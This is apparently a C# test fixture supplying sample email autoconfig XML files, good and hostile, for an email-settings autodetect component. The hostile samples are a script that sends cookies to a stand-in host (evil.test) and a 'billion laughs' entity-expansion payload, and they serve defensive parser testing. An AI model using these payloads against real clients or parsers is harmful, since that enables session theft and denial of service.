namespace EmailSettings.Tests.Core.Autodetect;

/// <summary>config-v1.1.xml files in the shape Thunderbird's ISPDB publishes, good and hostile.</summary>
public static class AutoconfigSamples
{
    public static string Config(
        string domain,
        (string Host, int Port, string SocketType, string Username) imap,
        (string Host, int Port, string SocketType, string Username) smtp,
        string authentication = "password-cleartext") => $"""
        <?xml version="1.0" encoding="UTF-8"?>
        <clientConfig version="1.1">
          <emailProvider id="{domain}">
            <domain>{domain}</domain>
            <displayName>{domain} Mail</displayName>
            <displayShortName>{domain}</displayShortName>
            <incomingServer type="pop3">
              <hostname>pop.{domain}</hostname>
              <port>995</port>
              <socketType>SSL</socketType>
              <username>%EMAILADDRESS%</username>
              <authentication>password-cleartext</authentication>
            </incomingServer>
            <incomingServer type="imap">
              <hostname>{imap.Host}</hostname>
              <port>{imap.Port}</port>
              <socketType>{imap.SocketType}</socketType>
              <username>{imap.Username}</username>
              <authentication>{authentication}</authentication>
            </incomingServer>
            <outgoingServer type="smtp">
              <hostname>{smtp.Host}</hostname>
              <port>{smtp.Port}</port>
              <socketType>{smtp.SocketType}</socketType>
              <username>{smtp.Username}</username>
              <authentication>{authentication}</authentication>
            </outgoingServer>
          </emailProvider>
        </clientConfig>
        """;

    /// <summary>A well-formed file with a script inside, as a compromised or parked host might serve.</summary>
    public const string WithScript = """
        <?xml version="1.0" encoding="UTF-8"?>
        <clientConfig version="1.1">
          <emailProvider id="script.test">
            <incomingServer type="imap">
              <hostname>imap.script.test</hostname>
              <port>993</port>
              <socketType>SSL</socketType>
              <username>%EMAILADDRESS%</username>
            </incomingServer>
            <script>document.location = "https://evil.test/?" + document.cookie</script>
          </emailProvider>
        </clientConfig>
        """;

    /// <summary>The "billion laughs" entity expansion: must be refused before anything is expanded.</summary>
    public const string BillionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE clientConfig [
          <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
          <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
          <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
          <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
        ]>
        <clientConfig version="1.1"><emailProvider id="dtd.test"><displayName>&d;</displayName></emailProvider></clientConfig>
        """;

    /// <summary>
    /// Servers in order of preference the dialogs cannot all express: TLS on connect on 1993, STARTTLS on 465,
    /// then ones they can (STARTTLS on 143, plain SMTP on 25 last).
    /// </summary>
    public const string OddPorts = """
        <clientConfig version="1.1">
          <emailProvider id="oddports.test">
            <incomingServer type="imap">
              <hostname>imap.oddports.test</hostname><port>1993</port><socketType>SSL</socketType>
              <username>%EMAILLOCALPART%</username><authentication>password-cleartext</authentication>
            </incomingServer>
            <incomingServer type="imap">
              <hostname>imap2.oddports.test</hostname><port>143</port><socketType>STARTTLS</socketType>
              <username>%EMAILLOCALPART%</username><authentication>password-encrypted</authentication>
            </incomingServer>
            <outgoingServer type="smtp">
              <hostname>smtp.oddports.test</hostname><port>25</port><socketType>plain</socketType>
              <username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>
            </outgoingServer>
            <outgoingServer type="smtp">
              <hostname>smtp.oddports.test</hostname><port>465</port><socketType>STARTTLS</socketType>
              <username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>
            </outgoingServer>
          </emailProvider>
        </clientConfig>
        """;

    /// <summary>OAuth2 only, with the issuer element the ISPDB uses for Microsoft.</summary>
    public const string OAuthOnly = """
        <clientConfig version="1.1">
          <emailProvider id="oauth.test">
            <displayName>OAuth Mail</displayName>
            <incomingServer type="imap">
              <hostname>imap.oauth.test</hostname><port>993</port><socketType>SSL</socketType>
              <username>%EMAILADDRESS%</username><authentication>OAuth2</authentication>
            </incomingServer>
            <outgoingServer type="smtp">
              <hostname>smtp.oauth.test</hostname><port>587</port><socketType>STARTTLS</socketType>
              <username>%EMAILADDRESS%</username><authentication>OAuth2</authentication>
            </outgoingServer>
          </emailProvider>
          <oAuth2>
            <issuer>login.microsoftonline.com</issuer>
            <scope>https://outlook.office.com/IMAP.AccessAsUser.All https://outlook.office.com/SMTP.Send offline_access</scope>
            <authURL>https://login.microsoftonline.com/common/oauth2/v2.0/authorize</authURL>
            <tokenURL>https://login.microsoftonline.com/common/oauth2/v2.0/token</tokenURL>
          </oAuth2>
        </clientConfig>
        """;

    /// <summary>POP3 and SMTP, no IMAP.</summary>
    public const string PopOnly = """
        <clientConfig version="1.1">
          <emailProvider id="pop.test">
            <incomingServer type="pop3">
              <hostname>pop.pop.test</hostname><port>995</port><socketType>SSL</socketType>
              <username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>
            </incomingServer>
            <outgoingServer type="smtp">
              <hostname>smtp.pop.test</hostname><port>465</port><socketType>SSL</socketType>
              <username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>
            </outgoingServer>
          </emailProvider>
        </clientConfig>
        """;
}
